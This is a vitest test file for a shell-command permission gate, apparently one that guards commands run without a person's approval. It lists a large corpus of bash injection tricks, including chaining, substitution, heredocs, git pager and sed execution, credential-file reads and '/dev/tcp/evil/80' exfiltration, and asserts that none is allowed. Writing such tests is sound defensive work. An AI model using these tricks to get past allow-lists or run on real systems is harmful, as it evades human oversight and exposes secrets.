import { expect, test } from "vitest";
import { bash, ruleOf } from "../../../support/gate-world.ts";

/** One each line; ⏎ is a newline, ␍ a carriage return, ␣ a no-break space, ¬ a backtick, § a dollar. What hides in each is `evil`, or a write outside. */
const TRICKS = String.raw`
safe a; evil
safe a && evil
safe a || evil
safe a | evil
safe a |& evil
safe a & evil
safe a⏎evil
safe a ;evil
safe a;;evil
safe $(evil)
safe "$(evil)"
safe "a $(echo "$(evil)")"
safe ¬evil¬
safe "¬evil¬"
safe ¬echo \¬evil\¬¬
safe <(evil)
safe >(evil)
safe a > >(evil)
safe < <(evil)
safe §{x:-$(evil)}
safe "§{x:-¬evil¬}"
safe §{x@P}
safe §{x:=evil}
safe §{!x}
safe $((x[$(evil)]))
safe $[x[$(evil)]]
safe <<E⏎$(evil)⏎E
safe <<E⏎¬evil¬⏎E
safe <<E⏎a⏎E⏎evil
safe <<'E'⏎a⏎E⏎evil
safe <<-E⏎	a⏎	E⏎evil
safe <<E\⏎⏎a⏎E⏎evil
safe <<E⏎a\⏎E⏎E⏎evil
safe <<A <<B⏎A⏎$(evil)⏎B
safe <<<$(evil)
safe # '⏎evil #'
safe a#b; evil
safe \⏎; evil
safe '\'; evil; safe ''
safe "\\"; evil
safe $'\''; evil; safe $'\''
safe a␍evil
safe␣a; evil
(safe; evil)
{ safe; evil; }
if safe; then evil; fi
while safe; do evil; done
for x in a; do evil; done
for x in $(evil); do safe; done
case a in a) evil;; esac
safe() { evil; }; safe
function safe { evil; }; safe
! evil
[[ $(evil) ]]
((x=$(evil)))
x=(a $(evil)); safe
x[$(evil)]=1 safe
coproc evil
time evil
timeout 1 evil
nice -n 5 evil
nohup evil
env evil
env A=1 evil
env -S 'evil a'
env -S"evil a"
env -i evil
command evil
builtin evil
exec evil
eval evil
eval "ev""il"
source evil
. evil
sudo evil
xargs evil
echo a | xargs -I{} evil {}
find . -exec evil {} \;
find . -execdir evil {} +
find . -ok evil {} \;
find . -delete
find . -fprint /etc/x
watch evil
setsid evil
ionice -c3 evil
flock x evil
script -c evil
bash -c evil
sh -c 'evil'
bash <<< evil
echo evil | sh
busybox evil
git -c core.pager=evil log
git -c core.fsmonitor=evil status
git -C /etc log
git --exec-path=/x status
git --git-dir=/x log
git -p log
git log --output=/etc/x
git log --outpu=/etc/x
git diff --ext-diff
git diff --no-index /etc/passwd a
git grep -Oevil a
git grep --open-files-in-pager=evil a
git difftool -x evil
git rebase --exec evil
git config core.pager evil
git config alias.x !evil
git branch -D main
git stash
git remote add x evil
cd /etc && git status
cd sub && git status
sort -o /etc/x a
sort --output=/etc/x a
sort --compress-program=evil a
sort -T /etc a
sort -S1 --compress-prog evil a
sed 's/a/b/e' a
sed '1e evil' a
sed 'w /etc/x' a
sed -n 's/a/b/w /etc/x' a
sed -f evil a
sed -i s/a/b/ /etc/x
sed --expression='1e evil' a
file -m evil a
file -C -m evil
docker -H tcp://evil ps
docker --context evil ps
docker run x evil
A=1 evil
PATH=/tmp safe a
LD_PRELOAD=/tmp/x.so ls
BASH_ENV=evil ls
GIT_PAGER=evil git log
PAGER=evil git log
GIT_SSH_COMMAND=evil git status
IFS=x; ls
alias ls=evil; ls
'evil' a
e\vil a
ev""il a
$'ev\x69l' a
$'\145vil' a
$EVIL
$(echo evil) a
¬echo evil¬ a
{evil,a}
ev{i,o}l a
./evil
/bin/evil
~/evil
cat /etc/shadow
cat ~/.ssh/id_rsa
cat $HOME/.ssh/id_rsa
cat ../../x
cat out/shadow
cat < /etc/shadow
cat /proc/self/environ
head -c100 --bytes=5 /etc/shadow
grep -f /etc/shadow a
grep -r a /etc
grep -e a -f/etc/shadow b
ls /root
diff /etc/shadow a
wc --files0-from=/etc/x
du --files0-from=/etc/x
tail -f /var/log/syslog
cd /; cat etc/shadow
cd ..; cat x
pushd /; cat etc/shadow
cd $X; cat y
echo a > /etc/x
echo a >> ~/.bashrc
echo a >| b
echo a &> b
echo a >& b
echo a <> b
echo a 2> b
echo a > $X
echo a > *
echo a > ~
> b
echo a | tee b
echo a > /dev/tcp/evil/80
cat < /dev/tcp/evil/80
echo a > .git/hooks/x
dd if=/etc/shadow
printf -v x a
read x
trap evil EXIT
export PATH=/tmp
declare x=$(evil)
unset 'x[$(evil)]'
test -v 'x[$(evil)]'
[ -v 'x[$(evil)]' ]
let x=$(evil)
type evil
which -a $(evil)
echo a; # b⏎evil
echo "a⏎"; evil
echo 'a'⏎'b'; evil
echo \
`
  .trim()
  .split("\n")
  .map((line) =>
    line
      .replaceAll("⏎", "\n")
      .replaceAll("␍", "\r")
      .replaceAll("␣", "\u00a0")
      .replaceAll("¬", "`")
      .replaceAll("§{", String.fromCodePoint(36, 123)),
  );

test("the corpus of tricks is large", () => {
  expect(TRICKS.length).toBeGreaterThanOrEqual(80);
});

test.each(TRICKS)("L19 %j runs not without a person", (command) => {
  expect(bash(command, { rules: [ruleOf("Bash(safe *)", "allow")] }).behavior).not.toBe("allow");
});

/** Those that start `evil` as a command of its own, not as somebody's argument, folder or configuration. */
const STARTING = TRICKS.filter(
  (command) =>
    /evil|ev""il|e\\vil/.test(command) &&
    !/[=/.!]'?evil|(?:pager|rebase --exec|difftool -x|add x|exec|-f|-m|-x|--context|tcp:.*|--compress-prog|1e|type|trap) '?evil|Oevil|docker|ls=evil/.test(
      command,
    ),
);

test.each(STARTING)("L19 %j does not pass where only the command in it is denied", (command) => {
  const rules = [ruleOf("Bash", "allow"), ruleOf("Bash(evil *)", "deny")];

  expect(bash(command, { rules }).behavior).not.toBe("allow");
});
